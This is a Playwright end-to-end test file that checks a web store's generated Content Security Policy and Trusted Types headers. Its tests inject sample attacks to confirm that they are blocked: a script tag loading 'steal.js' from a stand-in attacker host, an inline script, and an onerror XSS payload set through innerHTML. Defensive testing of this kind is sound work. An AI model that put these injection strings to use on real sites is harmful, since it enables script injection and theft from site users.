import { readFileSync } from 'node:fs';
import {
  buildSettings,
  contentSecurityPolicy,
  securityHeaders,
} from '../../scripts/serving-config';
import type { ScriptHashes } from '../../scripts/script-policy';
import { expect, firstAppScript, test } from './fixtures';

/**
 * The server in front of the build (vite preview in the chromium project, nginx with the shipped
 * config in the nginx project) sends the headers scripts/serving-config.ts generates from the build's
 * settings (scripts/e2e.mjs hands the same VITE_* values to the build, the servers and this process),
 * and the policy lists the hashes of the served file's own inline scripts (the build's table).
 */
const settings = buildSettings();
const hashes = JSON.parse(readFileSync('dist-e2e/script-hashes.json', 'utf8')) as ScriptHashes;
const sameWords = (value: string | undefined) => value?.replace(/\s+/g, ' ');

test('the app shell, a deep link and a hashed asset carry the generated security headers', async ({
  page,
  request,
}) => {
  const response = await page.goto('/store');
  const script = await firstAppScript(page);
  const answers = [
    [response, hashes['/store/index.html']],
    [await request.get('/'), hashes['/index.html']],
    [await request.get('/account/orders'), hashes['/__spa-fallback.html']],
    [await request.get(script), []],
  ] as const;
  for (const [found, fileHashes] of answers) {
    expect(found?.status()).toBe(200);
    expect(fileHashes?.length, `hashes of ${found?.url()}`).toBeDefined();
    const headers = found?.headers() ?? {};
    const expected = securityHeaders(settings, fileHashes);
    for (const [name, value] of Object.entries(expected))
      expect(sameWords(headers[name.toLowerCase()]), `${name} on ${found?.url()}`).toBe(value);
  }
});

/**
 * A document the test answers itself (route.fulfill) counts as public to Chromium, whose Local
 * Network Access then refuses its calls to the local API on loopback: off for this test's browser.
 */
const answeredByTest = test.extend({
  launchOptions: [
    async ({ launchOptions }, use) =>
      use({
        ...launchOptions,
        args: [...(launchOptions.args ?? []), '--disable-features=LocalNetworkAccessChecks'],
      }),
    { scope: 'worker' },
  ],
});

answeredByTest(
  "the policy refuses an inline script and a host's script the page's HTML did not come with; the page still works",
  async ({ page, cspViolations, consoleErrors }) => {
    // The served /store page, with two scripts an attacker might get into the HTML.
    await page.route('**/store', async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        '</head>',
        '<script>window.__injected = true;</script><script src="https://evil.example/steal.js"></script></head>',
      );
      await route.fulfill({ response, body: html });
    });
    // Chromium logs each refusal as a console error too.
    consoleErrors.expect(/Content Security Policy/);
    cspViolations.expect(/script-src-elem blocked (inline|https:\/\/evil\.example\/steal\.js)/);
    await page.goto('/store');
    await expect
      .poll(() => [...new Set(cspViolations.violations.map((v) => v.blockedURI))].sort())
      .toEqual(['https://evil.example/steal.js', 'inline']);
    expect(await page.evaluate(() => '__injected' in window)).toBe(false);
    // The page's own scripts ran (the boot loader's module and the route modules it imports): it
    // hydrated and answers a press.
    await page
      .getByRole('button', { name: /Add To Cart/ })
      .first()
      .click();
    await expect(page.getByRole('link', { name: 'Cart, 1 item' })).toBeVisible();
    expect(cspViolations.violations).toHaveLength(2);
  },
);

test('Trusted Types refuse markup and script addresses given as strings, and report them', async ({
  page,
  cspViolations,
  consoleErrors,
}) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  consoleErrors.expect(
    /requires 'Trusted(HTML|ScriptURL)' assignment|TrustedTypePolicy named 'attacker'/,
  );
  cspViolations.expect(
    /require-trusted-types-for blocked trusted-types-sink|trusted-types blocked trusted-types-policy/,
  );
  const refused = await page.evaluate(() => {
    const attempts: Record<string, () => void> = {
      html: () => {
        document.createElement('div').innerHTML = '<img src=x onerror="window.__ran = 1">';
      },
      scriptUrl: () => {
        document.createElement('script').src = 'https://evil.example/steal.js';
      },
      policy: () => {
        (
          window as unknown as { trustedTypes: { createPolicy: (n: string, r: object) => void } }
        ).trustedTypes.createPolicy('attacker', { createHTML: (s: string) => s });
      },
    };
    return Object.entries(attempts)
      .filter(([, attempt]) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      })
      .map(([name]) => name);
  });
  expect(refused).toEqual(['html', 'scriptUrl', 'policy']);
  await expect
    .poll(() => cspViolations.violations.filter((v) => v.directive === 'require-trusted-types-for'))
    .toHaveLength(2);
  expect(cspViolations.violations.some((v) => v.directive === 'trusted-types')).toBe(true);
  expect(contentSecurityPolicy(settings)).toContain("require-trusted-types-for 'script'");
});
